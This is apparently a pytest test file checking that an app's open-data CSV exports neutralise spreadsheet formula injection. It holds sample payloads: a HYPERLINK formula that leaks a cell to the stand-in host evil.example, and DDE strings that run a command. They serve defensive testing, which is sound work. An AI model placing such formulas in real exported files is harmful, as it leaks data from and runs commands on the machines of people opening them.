"""The open-data CSVs never carry a live spreadsheet formula, whatever an editor types."""

import csv
import io

import pytest

from comparisons.views import spreadsheet_safe

from .factories import (
    AdoptionFactory,
    CompanyFactory,
    FrameworkFactory,
    SupportFactory,
    TraitValueFactory,
)

pytestmark = pytest.mark.usefixtures("empty_content")

# One per character a spreadsheet starts a formula with: =, +, -, @, tab, carriage return.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Docs")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_any_text_column_is_neutralised(client, formula):
    framework = FrameworkFactory(slug="-flask")  # a slug may start with a minus sign
    SupportFactory(framework=framework, level="third-party", via=formula,
                   via_url=formula, note=formula)  # fmt: skip
    AdoptionFactory(framework=framework, company=CompanyFactory(name=formula), how=formula)
    TraitValueFactory(framework=framework, value=formula, basis="assessment", evidence=formula)

    neutral = "'" + formula
    (support,) = rows(client, "/data/support.csv")
    assert support["framework"] == "'-flask"
    assert [support[c] for c in ("via", "via_url", "note", "evidence")] == [neutral] * 3 + [""]
    (adoption,) = rows(client, "/data/adoptions.csv")
    assert [adoption["company"], adoption["how"]] == [neutral, neutral]
    (trait,) = rows(client, "/data/traits.csv")
    assert [trait["value"], trait["evidence"]] == [neutral, neutral]


def test_ordinary_text_is_left_as_typed(client):
    SupportFactory(level="third-party", via="Flask-SQLAlchemy", note="a=b, c+d, -e, @f")
    (support,) = rows(client, "/data/support.csv")
    assert [support["via"], support["note"]] == ["Flask-SQLAlchemy", "a=b, c+d, -e, @f"]


def test_a_line_break_inside_a_cell_keeps_the_row_whole(client):
    SupportFactory(note="one\rtwo\nthree")
    (support,) = rows(client, "/data/support.csv")
    assert support["note"] == "one\rtwo\nthree"


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("x=1", "x=1"), ("", ""), ("'=1", "'=1"), (None, None), (-1, -1)],
)  # fmt: skip
def test_spreadsheet_safe(cell, written):
    assert spreadsheet_safe(cell) == written
